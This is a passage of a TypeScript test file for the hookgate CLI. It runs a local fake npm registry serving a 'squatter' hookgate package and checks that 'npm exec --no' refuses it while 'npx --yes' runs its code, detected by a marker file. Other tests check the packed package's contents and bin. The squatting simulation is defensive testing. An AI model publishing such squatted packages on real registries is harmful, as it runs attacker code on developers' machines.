        res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ name: 'hookgate', 'dist-tags': { latest: '9.9.9' }, versions: { '9.9.9': version } }));
      } else if (req.url === '/hookgate-9.9.9.tgz') res.writeHead(200, { 'content-type': 'application/octet-stream' }).end(tarball);
      else res.writeHead(404, { 'content-type': 'application/json' }).end('{}');
    });
    await new Promise<void>((resolve) => registry.listen(0, '127.0.0.1', resolve));
    registryUrl = `http://127.0.0.1:${(registry.address() as AddressInfo).port}`;
  }, 60_000);
  afterAll(async () => {
    registry?.close();
    await rm(home, { recursive: true, force: true });
  });

  const npmExec = (args: readonly string[], cwd: string) =>
    execFile('npm', ['exec', ...args], {
      cwd,
      env: cliEnv({ npm_config_registry: registryUrl, npm_config_cache: join(home, 'cache'), npm_config_update_notifier: 'false', npm_config_yes: undefined, CI: undefined }),
    }).then(
      (done) => ({ code: 0, stdout: done.stdout, stderr: done.stderr }),
      (failed: { code: number; stdout: string; stderr: string }) => ({ code: failed.code, stdout: failed.stdout, stderr: failed.stderr }),
    );

  it('runs the clone\'s own CLI from any folder of the clone, and outside one refuses the registry\'s hookgate rather than run it', async () => {
    const inClone = await npmExec(['--no', '--', 'hookgate', '--version'], join(root, 'docs'));
    expect(inClone.code, inClone.stderr).toBe(0);
    expect(inClone.stdout.trim()).toBe(JSON.parse(await readFile(join(root, 'clients/cli/package.json'), 'utf8')).version);

    const outside = await npmExec(['--no', '--', 'hookgate', '--version'], home);
    expect(outside.code).not.toBe(0);
    expect(outside.stderr).toMatch(/canceled due to missing packages/);
    expect(existsSync(mark)).toBe(false);
    // What `npx hookgate` does there: the squatter's code runs. (So the registry above is one npm uses.)
    const npx = await npmExec(['--yes', '--', 'hookgate', '--version'], home);
    expect(npx.code, npx.stderr).toBe(0);
    expect(existsSync(mark)).toBe(true);
  }, 120_000);
});

describe('the packed @hookgate/cli', () => {
  let project: string;
  let tarball: string;

  beforeAll(async () => {
    project = await mkdtemp(join(tmpdir(), 'hookgate-cli-package-'));
    const packed = await execFile('npm', ['pack', '--pack-destination', project], { cwd: join(root, 'clients/cli') });
    tarball = join(project, packed.stdout.trim().split('\n').at(-1) ?? '');
    await writeFile(join(project, 'package.json'), JSON.stringify({ name: 'consumer', private: true }));
    await execFile('npm', ['install', '--offline', '--no-audit', '--no-fund', tarball], { cwd: project });
  }, 120_000);
  afterAll(() => rm(project, { recursive: true, force: true }));

  it('ships the bundle, its README and LICENSE, and nothing else', async () => {
    const { stdout } = await execFile('tar', ['-tzf', tarball]);
    expect(stdout.trim().split('\n').sort()).toEqual(['package/LICENSE', 'package/README.md', 'package/dist/hookgate.cjs', 'package/package.json']);
    expect(await readFile(join(project, 'node_modules/@hookgate/cli/LICENSE'), 'utf8')).toBe(await readFile(join(root, 'LICENSE'), 'utf8'));
  });

  it('installs a hookgate bin, with no dependency, that runs on this Node and on the system\'s', async () => {
    const published = await hookgate.outboundEvents.publish({ event_type: 'packed', payload: {} });
    const bin = join(project, 'node_modules/.bin/hookgate');
    expect((await stat(bin)).mode & 0o111).not.toBe(0);
    const nodes = [process.execPath, '/usr/bin/node'].filter((path, i, all) => all.indexOf(path) === i && existsSync(path));
    for (const node of nodes) {
      const { stdout } = await execFile(node, [bin, 'events', 'get', published.id, '--json'], { env: cliEnv({ HOOKGATE_URL: gatewayUrl, HOOKGATE_API_KEY: key }) });
      expect(JSON.parse(stdout), node).toMatchObject({ event: { id: published.id, event_type: 'packed' } });
    }
  });
});
